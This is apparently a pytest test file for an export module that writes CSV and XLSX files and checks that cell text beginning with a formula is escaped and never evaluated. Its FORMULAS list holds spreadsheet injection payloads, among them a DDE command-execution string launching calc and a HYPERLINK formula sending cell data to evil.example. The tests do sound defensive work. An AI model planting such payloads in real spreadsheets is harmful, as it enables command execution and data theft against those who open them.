"""Files for spreadsheets: a text is never a formula, a number stays one, and every program can open it."""

import datetime as dt
import io
import zipfile

import pytest
from openpyxl import load_workbook

from tests.spreadsheet_files import csv_rows, xlsx_kinds, xlsx_rows
from upskill.core.spreadsheets import Sheet, csv_file, xlsx_file

NOON = dt.datetime(2026, 11, 23, 12, 0, tzinfo=dt.UTC)
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    '@IMPORTXML("http://evil.example")',
    "-2+3+cmd|' /C calc'!D2",
    "＝1+1",
    "=\x00cmd",
    "\x00=cmd",
    '"=1+1"',
    "|calc",
    "%0A=1",
]
PLAIN = ["Alice Adams", "O'Neill-Smith", "a=b", "1 Working", "", "[c]", "名前", "two\nlines", 'say "hi"', "a,b;c", "12"]


def csv_cell(text: str) -> str:
    return csv_rows(csv_file(Sheet("Names", [["Name"], [text]])))[1][0]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_a_program_would_run_begins_with_an_apostrophe_in_csv(text):
    assert csv_cell(text)[:1] in {"'", '"'}


@pytest.mark.parametrize("text", PLAIN)
def test_any_other_text_stays_as_it_is_in_csv(text):
    assert csv_cell(text) == text


@pytest.mark.parametrize("text", [*FORMULAS, *filter(None, PLAIN)])
def test_every_text_is_a_text_in_xlsx_and_stays_one_when_it_is_edited(text):
    content = xlsx_file([Sheet("Names", [["Name"], [text]])], now=NOON)

    cell = load_workbook(io.BytesIO(content)).active["A2"]
    assert (cell.data_type, cell.quotePrefix) == ("s", True)
    assert cell.value.replace("\r", "\n") == text.replace("\x00", "").replace("\r", "\n")
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")


def test_an_empty_text_is_an_empty_cell():
    assert xlsx_rows(xlsx_file([Sheet("Names", [["Name", "Title"], ["Alice", ""]])], now=NOON))["Names"][1][1] == ""


def test_numbers_stay_numbers():
    sheet = Sheet("Figures", [["Skill", "People"], ["Fairness", 12], ["Oversight", -3]])

    assert csv_rows(csv_file(sheet))[1:] == [["Fairness", 12.0], ["Oversight", -3.0]]
    assert xlsx_rows(xlsx_file([sheet], now=NOON))["Figures"][1:] == [["Fairness", 12], ["Oversight", -3]]


def test_csv_is_what_excel_opens_by_a_double_click():
    content = csv_file(Sheet("Names", [["Name"], ["Zoë"]]))

    assert content == b'\xef\xbb\xbf"Name"\r\n"Zo\xc3\xab"\r\n'


def test_xlsx_has_its_headings_in_bold_and_in_sight_and_says_when_it_was_made():
    book = load_workbook(io.BytesIO(xlsx_file([Sheet("Names", [["Name"], ["Zoë"]])], now=NOON)))

    sheet = book.active
    assert (sheet["A1"].font.bold, sheet["A2"].font.bold, sheet.freeze_panes) == (True, False, "B2")
    assert (book.properties.created, book.properties.creator) == (NOON.replace(tzinfo=None), "Upskill")


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("Levels reached", "Levels reached"),
        ("a" * 40, "a" * 31),
        ("[a]:b*c?d/e\\f", "a  b c d e f"),
        ("'quoted'", "quoted"),
        ("History", "Sheet"),
        ("", "Sheet"),
        ("***", "Sheet"),
        ("=1+1", "=1+1"),
    ],
)
def test_title_of_a_sheet_is_one_that_excel_takes(title, name):
    assert list(xlsx_rows(xlsx_file([Sheet(title, [["Name"]])], now=NOON))) == [name]


def test_text_longer_than_a_cell_may_be_is_cut_off():
    content = xlsx_file([Sheet("Names", [["Name"], ["a" * 40_000]])], now=NOON)

    assert len(xlsx_rows(content)["Names"][1][0]) == 32_000


def test_sheets_stand_in_their_order():
    assert list(xlsx_rows(xlsx_file([Sheet("B", [["x"]]), Sheet("A", [["x"]])], now=NOON))) == ["B", "A"]


def test_no_cell_of_a_whole_table_of_formulas_is_one():
    rows = [["Name", "Title"], *([text, text] for text in FORMULAS)]

    assert xlsx_kinds(xlsx_file([Sheet("Names", rows)], now=NOON)) == {"s"}
